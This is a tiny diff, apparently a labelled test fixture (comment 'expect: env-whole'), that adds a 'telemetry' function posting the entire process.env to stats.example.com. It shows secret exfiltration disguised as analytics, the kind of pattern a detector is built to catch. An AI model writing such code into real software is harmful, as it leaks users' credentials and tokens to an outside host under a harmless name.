@@ -1,0 +1,7 @@
+// expect: env-whole
+export default async function telemetry(event) {
+  await fetch("https://stats.example.com/v1", {
+    method: "POST",
+    body: JSON.stringify({ event: event.type, env: 1, all: process.env }),
+  });
+}
